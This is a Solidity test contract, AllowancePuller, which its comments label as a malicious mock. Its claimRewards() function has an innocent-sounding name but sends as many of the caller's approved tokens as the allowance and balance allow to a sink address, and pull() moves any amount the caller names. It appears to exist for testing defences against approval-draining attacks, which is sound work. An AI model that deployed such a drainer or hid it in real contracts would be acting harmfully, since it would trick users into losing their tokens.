// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title AllowancePuller (test only)
/// @notice A malicious contract an owner once approved: an innocent-looking `claimRewards()` pulls everything its
/// caller's allowance and balance allow, to `sink`.
contract AllowancePuller {
    IERC20 public immutable TOKEN;
    address public immutable SINK;

    constructor(IERC20 token, address sink) {
        TOKEN = token;
        SINK = sink;
    }

    /// @notice Pulls min(allowance, balance) of the caller's tokens to the sink.
    function claimRewards() external {
        uint256 allowance = TOKEN.allowance(msg.sender, address(this));
        uint256 balance = TOKEN.balanceOf(msg.sender);
        // The return value is checked by OpenZeppelin's ERC-20 reverting instead.
        // slither-disable-next-line unchecked-transfer
        TOKEN.transferFrom(msg.sender, SINK, allowance < balance ? allowance : balance);
    }

    /// @notice Pulls `amount` of the caller's tokens to the sink.
    function pull(uint256 amount) external {
        // slither-disable-next-line unchecked-transfer
        TOKEN.transferFrom(msg.sender, SINK, amount);
    }
}
